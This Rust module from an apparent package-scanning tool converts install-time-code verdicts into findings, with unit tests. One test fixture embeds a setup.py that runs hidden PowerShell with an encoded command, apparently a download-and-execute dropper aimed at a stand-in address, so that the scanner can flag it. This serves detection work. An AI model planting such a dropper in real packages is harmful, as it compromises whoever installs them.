//! The verdict as a tollgate [`Finding`], for `scan --deep` and the install gate: one
//! finding per analysed package whose severity follows the verdict, so that `--fail-on`
//! acts on the verdict and not on every capability a build uses (a compiler run in
//! `build.rs` is a capability; it is not a reason to fail CI).

use tollgate_model::{Evidence, Finding, Package, Severity};

use super::VerdictLevel;
use crate::model::PackageReport;

/// The finding code of a verdict.
pub const VERDICT_CODE: &str = "install-code";

/// The severity a verdict level carries: `malicious` is critical, `suspicious` high (a
/// person should look before this runs), `clean` info.
pub fn verdict_severity(level: VerdictLevel) -> Severity {
    match level {
        VerdictLevel::Malicious => Severity::Critical,
        VerdictLevel::Suspicious => Severity::High,
        VerdictLevel::Clean => Severity::Info,
    }
}

/// The verdict on `report` as one finding (code `install-code`, id
/// `install-code/<level>`): each reason is a piece of evidence at its file and line, then
/// each capability finding of the analysis, with its own rule and severity in the note, so
/// that nothing the analysis saw is dropped.
pub fn verdict_finding(report: &PackageReport, package: &Package, lockfile: &str) -> Finding {
    let verdict = &report.verdict;
    let summary = match verdict.reasons.first() {
        Some(top) => format!(
            "install-time code judged {} (score {}): {}",
            verdict.level.as_str(),
            verdict.score,
            top.why
        ),
        None => format!(
            "install-time code judged {} (score {})",
            verdict.level.as_str(),
            verdict.score
        ),
    };
    let mut finding = Finding::for_package(
        VERDICT_CODE,
        verdict_severity(verdict.level),
        package,
        lockfile,
        summary,
    );
    finding.id = Some(format!("{VERDICT_CODE}/{}", verdict.level.as_str()));
    finding
        .evidence
        .extend(verdict.reasons.iter().map(|reason| Evidence {
            path: reason.file.clone(),
            line: Some(reason.line),
            snippet: Some(reason.why.clone()),
            note: Some(format!(
                "{} (+{} points, runs at {})",
                reason.rule,
                reason.points,
                reason.phase.as_str()
            )),
        }));
    finding
        .evidence
        .extend(report.findings.iter().map(|code| Evidence {
            path: code.file.clone(),
            line: Some(code.line),
            snippet: Some(code.snippet.clone()),
            note: Some(format!(
                "capability install-script/{} ({}), run by {}: {}",
                code.rule, code.severity, code.phase, code.message
            )),
        }));
    finding
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze_package;
    use crate::files::PackageFiles;
    use tollgate_model::Ecosystem;

    fn report(files: &[(&str, &str)]) -> PackageReport {
        analyze_package("fixture", &PackageFiles::from_texts(files)).unwrap()
    }

    #[test]
    fn a_build_that_compiles_is_an_info_finding_that_keeps_its_capabilities() {
        let report = report(&[
            (
                "Cargo.toml",
                "[package]\nname = \"zlib-sys-like\"\nversion = \"0.1.0\"\nbuild = \"build.rs\"\n",
            ),
            (
                "build.rs",
                "fn main() {\n    cc::Build::new().file(\"src/zlib.c\").compile(\"z\");\n    \
                 println!(\"cargo:rerun-if-changed=src/zlib.c\");\n    \
                 let _ = std::process::Command::new(\"pkg-config\").arg(\"--libs\").arg(\"zlib\").status();\n}\n",
            ),
        ]);
        let package = Package::new(Ecosystem::CratesIo, "zlib-sys-like", "0.1.0");
        let finding = verdict_finding(&report, &package, "Cargo.lock");
        assert_eq!(finding.severity, Severity::Info, "{finding:#?}");
        assert_eq!(finding.id.as_deref(), Some("install-code/clean"));
        assert!(
            finding.evidence.iter().any(|e| e
                .note
                .as_deref()
                .is_some_and(|n| n.starts_with("capability install-script/"))),
            "the program run stays visible: {finding:#?}"
        );
    }

    #[test]
    fn an_encoded_powershell_dropper_is_critical_with_located_reasons() {
        let report = report(&[
            (
                "PKG-INFO",
                "Metadata-Version: 2.1\nName: dropper\nVersion: 1.0\n",
            ),
            (
                "setup.py",
                "import subprocess\nfrom setuptools import setup\n\
                 subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand \
                 SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AcAAnACkA', shell=True)\n\
                 setup(name='dropper', version='1.0')\n",
            ),
        ]);
        let package = Package::new(Ecosystem::PyPI, "dropper", "1.0");
        let finding = verdict_finding(&report, &package, "uv.lock");
        assert_eq!(finding.severity, Severity::Critical, "{finding:#?}");
        let first = &finding.evidence[0];
        assert_eq!(first.path, "setup.py");
        assert_eq!(first.line, Some(3));
    }
}
